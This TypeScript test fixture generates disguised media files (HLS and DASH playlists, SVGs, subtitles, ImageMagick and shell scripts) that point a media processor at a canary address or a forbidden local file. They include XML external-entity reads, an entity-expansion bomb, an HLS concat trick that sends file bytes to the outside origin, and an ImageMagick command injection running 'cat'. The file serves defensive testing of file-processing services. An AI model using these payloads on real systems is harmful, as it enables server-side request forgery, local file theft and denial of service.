/** What a text may ask for: an address where a canary listens, and a file that nobody may open. */
export type Bait = { origin: string; file: string };

const playlist = (...lines: string[]) =>
  `${["#EXTM3U", "#EXT-X-TARGETDURATION:2", ...lines, "#EXT-X-ENDLIST"].join("\n")}\n`;
const manifest = (content: string) =>
  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-live:2011"><Period>${content}</Period></MPD>`;
const svg = (content: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">${content}</svg>`;

/** Playlists, manifests, scripts and other texts that name more files, each to be served as an innocent film. */
export const disguises: Record<string, (bait: Bait) => string> = {
  "an HLS playlist of an address": ({ origin }) => playlist("#EXTINF:1,", `${origin}/a.ts`),
  "an HLS playlist of a local file": ({ file }) => playlist("#EXTINF:1,", file),
  "an HLS playlist of a file: URL": ({ file }) => playlist("#EXTINF:1,", `file://${file}`),
  "an HLS playlist with a key elsewhere": ({ origin }) =>
    playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${origin}/key"`, "#EXTINF:1,", "/dev/zero"),
  "an HLS playlist with a key on the disk": ({ origin, file }) =>
    playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${file}"`, "#EXTINF:1,", `${origin}/a.ts`),
  "an HLS playlist with a map elsewhere": ({ origin }) =>
    playlist(`#EXT-X-MAP:URI="${origin}/init.mp4"`, "#EXTINF:1,", `${origin}/a.m4s`),
  "an HLS playlist that joins files": ({ origin, file }) =>
    playlist("#EXTINF:1,", `concat:${origin}/header.m3u8|${file}`),
  "an HLS playlist that sends a file away": ({ origin, file }) =>
    playlist("#EXTINF:1,", `concat:${origin}/?|subfile,,start,0,end,64,,:${file}`),
  "an HLS playlist of a crypto: URL": ({ origin }) => playlist("#EXTINF:1,", `crypto+${origin}/a.ts`),
  "an HLS playlist of itself": () => playlist("#EXTINF:1,", "source"),
  "an HLS master playlist": ({ origin }) => playlist("#EXT-X-STREAM-INF:BANDWIDTH=1", `${origin}/variant.m3u8`),
  "an HLS master playlist with sound elsewhere": ({ origin }) =>
    playlist(
      `#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="${origin}/audio.m3u8"`,
      '#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"',
      "v.m3u8",
    ),
  "an HLS playlist after a byte order mark": ({ origin }) => `\ufeff${playlist("#EXTINF:1,", `${origin}/a.ts`)}`,
  "an HLS playlist after an ID3 tag": ({ origin }) =>
    `ID3\x04\0\0\0\0\0\x0a${"\0".repeat(10)}${playlist("#EXTINF:1,", `${origin}/a.ts`)}`,
  "an HLS playlist after an ftyp box": ({ origin }) =>
    `\0\0\0\x18ftypmp42\0\0\0\0mp42isom${playlist("#EXTINF:1,", `${origin}/a.ts`)}`,
  "an HLS playlist after a packet of a transport stream": ({ origin }) =>
    `G${"\0".repeat(187)}${playlist("#EXTINF:1,", `${origin}/a.ts`)}`,
  "a DASH manifest": ({ origin }) =>
    manifest(
      `<BaseURL>${origin}/</BaseURL><AdaptationSet><Representation id="1" bandwidth="1"><SegmentTemplate media="$Number$.m4s" initialization="i.mp4" duration="1"/></Representation></AdaptationSet>`,
    ),
  "a DASH manifest of a local file": ({ file }) =>
    manifest(
      `<AdaptationSet><Representation id="1" bandwidth="1"><BaseURL>file://${file}</BaseURL></Representation></AdaptationSet>`,
    ),
  "a DASH manifest with a period elsewhere": ({ origin }) =>
    manifest(
      `<AdaptationSet xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${origin}/p" xlink:actuate="onLoad"/>`,
    ),
  "a DASH manifest with an external entity": ({ file }) =>
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${file}">]><MPD>&e;</MPD>`,
  "a smooth streaming manifest": ({ origin }) =>
    `<SmoothStreamingMedia MajorVersion="2"><StreamIndex Type="video" Url="${origin}/{bitrate}"/></SmoothStreamingMedia>`,
  "an HDS manifest": ({ origin }) =>
    `<manifest xmlns="http://ns.adobe.com/f4m/1.0"><media url="${origin}/a"/></manifest>`,
  "an ffconcat script of an address": ({ origin }) => `ffconcat version 1.0\nfile '${origin}/a.mp4'\n`,
  "an ffconcat script of a local file": ({ file }) => `ffconcat version 1.0\nfile '${file}'\n`,
  "an ffconcat script of a part of a file": ({ file }) =>
    `ffconcat version 1.0\nfile 'subfile,,start,0,end,9,,:${file}'\n`,
  "an ffconcat script with options": ({ origin }) =>
    `ffconcat version 1.0\nfile a.mp4\noption protocol_whitelist file,http,tcp\nfile '${origin}/'\n`,
  "an SDP of a stream": () =>
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
  "a redirect of RTSP": ({ origin }) => `rtsptext\r\n${origin.replace("http", "rtsp")}/a\r\n`,
  "a RealMedia reference": ({ origin }) => `${origin.replace("http", "rtsp")}/a.rm\n`,
  "an ASX list": ({ origin }) => `<asx version="3.0"><entry><ref href="${origin}/a"/></entry></asx>`,
  "an ASF redirect": ({ origin }) => `[Reference]\r\nRef1=${origin}/a?MSWMExt=.asf\r\n`,
  "a PLS list": ({ origin }) => `[playlist]\nFile1=${origin}/a\nNumberOfEntries=1\nVersion=2\n`,
  "an XSPF list": ({ origin }) =>
    `<playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>${origin}/a</location></track></trackList></playlist>`,
  "a SMIL presentation": ({ origin }) => `<smil><body><video src="${origin}/a.mp4"/></body></smil>`,
  "a cue sheet": ({ file }) => `FILE "${file}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`,
  "an SVG with a picture elsewhere": ({ origin }) => svg(`<image xlink:href="${origin}/a.png" width="9" height="9"/>`),
  "an SVG with a picture on the disk": ({ file }) => svg(`<image xlink:href="file://${file}" width="9" height="9"/>`),
  "an SVG with an external entity": ({ file }) =>
    `<!DOCTYPE svg [<!ENTITY e SYSTEM "file://${file}">]>${svg("<text>&e;</text>")}`,
  "an SVG of billions of laughs": () =>
    `<!DOCTYPE svg [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};&a${n};">`).join("")}]>${svg("<text>&a30;</text>")}`,
  "an ImageMagick script": ({ origin, file }) =>
    `push graphic-context\nviewbox 0 0 9 9\nfill 'url(${origin}/a.png"|cat "${file})'\npop graphic-context\n`,
  "a PostScript program": ({ file }) => `%!PS-Adobe-3.0 EPSF-3.0\n(${file}) (r) file\n`,
  "a PDF": ({ origin }) => `%PDF-1.4\n1 0 obj<</URI(${origin}/a)>>endobj\n%%EOF\n`,
  "an HTML page that moves on": ({ origin }) =>
    `<!doctype html><meta http-equiv="refresh" content="0;url=${origin}/a">`,
  "subtitles with a picture": ({ origin }) => `1\n00:00:00,000 --> 00:00:01,000\n<img src="${origin}/a.png">\n`,
  "subtitles in ASS with a font": ({ file }) =>
    `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${file}\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,{\\fn${file}}x\n`,
  "subtitles in WebVTT with a style": ({ origin }) =>
    `WEBVTT\n\nSTYLE\n@import url(${origin}/a.css);\n\n00:00.000 --> 00:01.000\nx\n`,
  "an index of VobSub": ({ file }) => `# VobSub index file, v7\nid: en, index: 0\nfile: ${file}\n`,
  "an AviSynth script": ({ file }) => `AviSource("${file}")\n`,
  "a VapourSynth script": ({ file }) => `import vapoursynth\nopen("${file}").read()\n`,
  "a filter graph": ({ file }) => `movie=${file}[out0]\n`,
  "a metadata file": ({ file }) => `;FFMETADATA1\ntitle=${file}\n[STREAM]\n`,
  "a shell script": ({ file }) => `#!/bin/sh\ncat ${file}\n`,
  "a text that is drawn": ({ file }) => `\x1b]0;${file}\x07`.repeat(50),
};
